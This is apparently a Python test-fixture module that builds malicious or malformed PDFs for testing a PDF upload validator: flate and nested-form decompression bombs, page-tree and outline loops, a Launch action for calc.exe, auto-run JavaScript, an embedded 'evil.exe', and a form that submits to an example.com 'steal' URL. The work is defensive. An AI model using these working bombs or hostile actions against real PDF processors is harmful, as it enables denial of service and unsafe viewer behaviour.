"""Makers of files that mean harm, or merely went wrong. Each returns the bytes of one file."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream

MB = 1024 * 1024


def plain(pages: int = 1, text: str = "Hello", size: tuple[float, float] = (595, 842)) -> Pdf:
    """An innocent document to spoil: Helvetica text on every page."""
    pdf = Pdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        pdf.add_blank_page(page_size=size)
        page = pdf.pages[-1]
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = Stream(pdf, f"BT /F1 24 Tf 72 700 Td ({text} {number}) Tj ET".encode())
    return pdf


def to_bytes(pdf: Pdf, **options: object) -> bytes:
    target = io.BytesIO()
    pdf.save(target, **options)
    return target.getvalue()


def raw(*objects: bytes, root: int = 1) -> bytes:
    """A PDF written by hand, object 1 first: for structures no library would write."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (entries, len(data), data)


def not_a_pdf() -> bytes:
    return b"PK\x03\x04 this is a Word file"


def with_password() -> bytes:
    return to_bytes(plain(), encryption=pikepdf.Encryption(owner="boss", user="secret"))


def owner_locked() -> bytes:
    nothing = pikepdf.Permissions(modify_other=False, modify_annotation=False, modify_form=False)
    return to_bytes(plain(), encryption=pikepdf.Encryption(owner="boss", user="", allow=nothing))


def owner_allows_changes() -> bytes:
    return to_bytes(plain(), encryption=pikepdf.Encryption(owner="boss", user=""))


def truncated() -> bytes:
    whole = to_bytes(plain(3))
    return whole[: len(whole) * 2 // 3]


def scrambled() -> bytes:
    """All structure gone, the end mark still there."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"


def too_many_pages() -> bytes:
    return to_bytes(plain(501))


def too_large() -> bytes:
    return to_bytes(plain()) + b"\0" * 26 * MB


def flate_bomb(size: int = 2000 * MB) -> bytes:
    """2 MB that unpack to 2 GB."""
    return _one_page(stream(_packed_spaces(size), b"/Filter/FlateDecode"))


def double_flate_bomb() -> bytes:
    """A few kB that unpack to 2 MB that unpack to 2 GB."""
    return _one_page(stream(zlib.compress(_packed_spaces(2000 * MB), 9), b"/Filter[/FlateDecode/FlateDecode]"))


def many_filters() -> bytes:
    data = b"0 0 m"
    for _ in range(6):
        data = zlib.compress(data)
    return _one_page(stream(data, b"/Filter[" + b"/FlateDecode" * 6 + b"]"))


def nested_forms_bomb(depth: int = 12, fan: int = 12) -> bytes:
    """2 kB: each form draws the next one a dozen times, a dozen deep."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>",
        stream(b"/X Do"),
    ]
    for level in range(depth):
        below = b"/Resources<</XObject<</X %d 0 R>>>>" % (len(objects) + 2) if level < depth - 1 else b""
        body = b"/X Do " * fan if below else b"0 0 595 842 re f"
        objects.append(stream(body, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]" + below))
    return raw(*objects)


def page_tree_loop() -> bytes:
    return raw(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def wrong_page_count() -> bytes:
    return raw(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 7>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def no_pages() -> bytes:
    return raw(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>")


def junk_before() -> bytes:
    return b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n" + to_bytes(plain())


def huge_page() -> bytes:
    return _page_with(b"/MediaBox[0 0 10000000 10000000]")


def tiny_page() -> bytes:
    return _page_with(b"/MediaBox[0 0 1 1]")


def user_unit() -> bytes:
    return _page_with(b"/MediaBox[0 0 595 842]/UserUnit 10")


def javascript() -> bytes:
    pdf = plain()
    script = Dictionary(S=Name.JavaScript, JS="app.alert('boo')")
    pdf.Root.OpenAction = script
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["boo", script])))
    return to_bytes(pdf)


def launch_link() -> bytes:
    pdf = plain()
    launch = Dictionary(S=Name.Launch, F="calc.exe")
    open_page = Dictionary(S=Name.URI, URI="https://example.com/", Next=Dictionary(S=Name.JavaScript, JS="x"))
    pdf.pages[0].Annots = Array([_link(pdf, launch), _link(pdf, open_page)])
    pdf.pages[0].AA = Dictionary(O=launch)
    return to_bytes(pdf)


def attachment() -> bytes:
    pdf = plain()
    pdf.attachments["evil.exe"] = b"MZ not really"
    where = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
    pdf.pages[0].Annots = Array([pdf.make_indirect(where)])
    return to_bytes(pdf)


def dynamic_xfa() -> bytes:
    pdf = plain(text="Please wait")
    pdf.Root.NeedsRendering = True
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    return to_bytes(pdf)


def media() -> bytes:
    """Annotations that play, show or record something, and one that sends the form away."""
    pdf = plain()
    kinds = (Name.RichMedia, Name.Screen, Name.Movie, Name.Sound, Name("/3D"))
    playing = [Dictionary(Type=Name.Annot, Subtype=kind, Rect=Array([0, 0, 9, 9])) for kind in kinds]
    sends = Dictionary(S=Name.SubmitForm, F="https://example.com/steal")
    elsewhere = Dictionary(S=Name.GoToR, F="other.pdf")
    pdf.pages[0].Annots = Array([*map(pdf.make_indirect, playing), _link(pdf, sends), _link(pdf, elsewhere)])
    return to_bytes(pdf)


def portfolio() -> bytes:
    pdf = plain()
    pdf.attachments["inside.pdf"] = b"%PDF-1.7"
    pdf.Root.Collection = Dictionary(View=Name.D)
    pdf.Root.AF = Array([])
    return to_bytes(pdf)


def endless_form() -> bytes:
    """A field that is its own child and its own parent."""
    pdf = plain()
    field = pdf.make_indirect(Dictionary(T="again"))
    field.Kids, field.Parent = Array([field]), field
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return to_bytes(pdf)


def giant_image() -> bytes:
    """An image of ten thousand megapixels in a few bytes."""
    pdf = plain()
    image = pdf.make_stream(b"\0")
    image.Type, image.Subtype, image.ColorSpace = Name.XObject, Name.Image, Name.DeviceRGB
    image.Width, image.Height, image.BitsPerComponent = 100_000, 100_000, 8
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(I=image))
    pdf.pages[0].Contents = Stream(pdf, b"q 500 0 0 500 0 0 cm /I Do Q")
    return to_bytes(pdf)


def endless_outline() -> bytes:
    pdf = plain()
    item = pdf.make_indirect(Dictionary(Title="again"))
    item.Next = item
    pdf.Root.Outlines = Dictionary(First=item)
    return to_bytes(pdf)


def deep_nesting() -> bytes:
    return _page_with(b"/MediaBox[0 0 595 842]/Deep " + b"[" * 5000 + b"]" * 5000)


def with_form(value: str = "Anna") -> bytes:
    """A filled text field with its appearance."""
    pdf = plain()
    look = pdf.make_stream(f"BT /F1 12 Tf 2 4 Td ({value}) Tj ET".encode())
    look.Type, look.Subtype, look.BBox = Name.XObject, Name.Form, Array([0, 0, 200, 20])
    look.Resources = pdf.pages[0].Resources
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="who", V=value, Rect=Array([72, 500, 272, 520]), F=4
    )
    field.AP = Dictionary(N=look)
    widget = pdf.make_indirect(field)
    pdf.pages[0].Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return to_bytes(pdf)


def looks_signed() -> bytes:
    """A signature field with a value (whether it is any good is for pyHanko to say)."""
    pdf = plain()
    signature = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=b"\0" * 16)
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T="s", V=signature, Rect=Array([0] * 4))
    widget = pdf.make_indirect(field)
    pdf.pages[0].Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), SigFlags=3)
    return to_bytes(pdf)


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "not a PDF": (not_a_pdf, "not_pdf"),
    "user password": (with_password, "encrypted"),
    "owner forbids changes": (owner_locked, "encrypted"),
    "truncated": (truncated, "malformed"),
    "scrambled": (scrambled, "malformed"),
    "501 pages": (too_many_pages, "too_many_pages"),
    "26 MB": (too_large, "too_large"),
    "flate bomb": (flate_bomb, "bomb"),
    "double flate bomb": (double_flate_bomb, "bomb"),
    "many filters": (many_filters, "bomb"),
    "page tree loop": (page_tree_loop, "malformed"),
    "wrong page count": (wrong_page_count, "malformed"),
    "no pages": (no_pages, "malformed"),
    "huge page": (huge_page, "bad_page_size"),
    "tiny page": (tiny_page, "bad_page_size"),
    "user unit": (user_unit, "user_unit"),
    "dynamic XFA": (dynamic_xfa, "xfa"),
    "endless outline": (endless_outline, "malformed"),
    "endless form": (endless_form, "malformed"),
}
"""What it is -> (maker, reason of the refusal). The nested-forms bomb is apart: only the time limit stops it."""


def _packed_spaces(size: int) -> bytes:
    """Deflate `size` spaces without ever holding them: one packed megabyte, repeated."""
    packer = zlib.compressobj(9)
    head = packer.compress(b" " * MB) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(b" " * MB) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + again * (size // MB - 1) + packer.flush()


def _one_page(contents: bytes) -> bytes:
    return raw(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        contents,
    )


def _page_with(entries: bytes) -> bytes:
    return raw(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R%b>>" % entries,
    )


def _link(pdf: Pdf, action: Dictionary) -> pikepdf.Object:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 600, 200, 620]), A=action)
    return pdf.make_indirect(link)
